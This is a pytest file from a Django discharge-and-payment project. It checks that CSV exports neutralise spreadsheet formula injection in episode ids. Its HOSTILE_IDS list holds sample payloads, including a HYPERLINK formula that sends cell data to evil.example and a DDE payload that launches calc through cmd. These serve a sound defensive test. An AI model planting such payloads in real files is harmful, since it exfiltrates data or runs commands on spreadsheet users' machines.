"""Every CSV the project writes is safe to open in a spreadsheet (issue 7, point 10).

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would run as a
formula (CSV injection): it is written with a leading ``'``. Numbers, negative ones included,
stay numbers. Checked on the report's CSV functions, the kommun's episode download and
``payment_report --format csv``; the import refuses such ids (tests/discharges/
test_import_formulas.py), but episodes registered otherwise (the API, the services) may
carry one.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings
from django.urls import reverse

from discharges import services
from discharges.models import Destination, Episode, Patient
from discharges.services import Actor
from payment.loader import load_agreement
from payment.reports import EpisodeLine, Row, episodes_csv, rows_csv
from tests.conftest import Personas, login
from tests.csvfiles import run_command

STOCKHOLM = ZoneInfo("Europe/Stockholm")
HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def at(day: date, hour: int) -> datetime:
    return datetime.combine(day, time(hour), tzinfo=STOCKHOLM)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def line(episode_id: str, **overrides: object) -> EpisodeLine:
    values: dict[str, object] = {
        "pk": 1,
        "episode_id": episode_id,
        "kommun": "2480",
        "care_type": "somatik",
        "ready_date": date(2024, 4, 10),
        "discharge_date": date(2024, 4, 12),
        "ready_days": 2,
        "liable_dates": [date(2024, 4, 11), date(2024, 4, 12)],
        "amount_sek": 18600,
        "prerequisites_missing": [],
    }
    values.update(overrides)
    return EpisodeLine(**values)  # type: ignore[arg-type]


@pytest.mark.parametrize("episode_id", HOSTILE_IDS)
def test_a_formula_in_a_text_cell_is_written_with_a_leading_quote(episode_id: str) -> None:
    [header, row] = cells(episodes_csv([line(episode_id)]))
    cell = dict(zip(header, row, strict=True))["episode_id"]
    assert cell == f"'{episode_id}"


def test_plain_text_and_numbers_are_written_as_they_are() -> None:
    [_header, row] = cells(episodes_csv([line("LC-2024-000123", prerequisites_missing=["r5"])]))
    assert row == ["LC-2024-000123", "2480", "somatik", "2024-04-10", "2024-04-12", "2", "2",
                   "18600", "r5"]  # fmt: skip


def test_negative_numbers_stay_numbers() -> None:
    row = Row(
        kommun="2480",
        care_type="-all",  # a text cell: neutralised
        month=date(2024, 4, 1),
        episodes=2,
        ready_days=-3,
        episodes_3plus=0,
        state="free",
        liable_days=-1,
        amount_sek=-9300,
    )
    [header, written] = cells(rows_csv([row]))
    values = dict(zip(header, written, strict=True))
    assert (values["ready_days"], values["average"]) == ("-3", "-1.5")
    assert (values["liable_days"], values["amount_sek"]) == ("-1", "-9300")
    assert values["care_type"] == "'-all"
    assert Decimal(values["average"]) == Decimal("-1.5")


# --- Through the download and the command ------------------------------------------------------


@pytest.fixture
def hostile_episodes(
    personas: Personas,
    make_patient: Callable[..., Patient],
    make_episode: Callable[..., Episode],
) -> list[Episode]:
    """Stays in April 2024 whose ids would run as formulas, registered through the services."""
    load_agreement(Path(settings.BASE_DIR) / "payment" / "agreements" / "vasterbotten.toml")
    episodes = []
    ready = date(2024, 4, 10)
    for episode_id in HOSTILE_IDS:
        episode = make_episode(
            make_patient(), admitted_at=at(ready - timedelta(days=2), 8), external_id=episode_id
        )
        ward = Actor(personas.integration, episode.ward)  # may date messages years back
        services.send_admission_notice(
            actor=ward, episode=episode, preliminary_ready_date=ready, occurred_at=at(ready, 7)
        )
        services.send_ready_notice(
            actor=ward, episode=episode, ready_date=ready, occurred_at=at(ready, 9)
        )
        services.register_discharge(
            actor=ward, episode=episode, destination=Destination.HOME, occurred_at=at(ready, 15)
        )
        episodes.append(episode)
    return episodes


def test_the_episode_download_neutralises_the_ids(
    personas: Personas, hostile_episodes: list[Episode]
) -> None:
    response = login(personas.kommun_planner).get(
        reverse("payment:export", args=["vasterbotten"]),
        {"from": "2024-04", "to": "2024-04", "detail": "1"},
    )
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")  # the Swedish download: ; and a BOM
    header, *rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    ids = sorted(dict(zip(header, row, strict=True))["Vårdtillfälle"] for row in rows)
    assert ids == sorted(f"'{episode_id}" for episode_id in HOSTILE_IDS)


def test_the_report_command_neutralises_the_ids(hostile_episodes: list[Episode]) -> None:
    out, _err = run_command(
        "payment_report", "--agreement", "vasterbotten", "--from", "2024-04", "--to", "2024-04",
        "--format", "csv", "--detail",
    )  # fmt: skip
    rows_part, episodes_part = out.split("\n\n")
    month_rows = list(csv.DictReader(io.StringIO(rows_part)))
    assert {row["kommun"] for row in month_rows} == {"2480"}
    lines = list(csv.DictReader(io.StringIO(episodes_part)))
    assert sorted(line["episode_id"] for line in lines) == sorted(f"'{i}" for i in HOSTILE_IDS)
    assert {line["ready_days"] for line in lines} == {"0"}
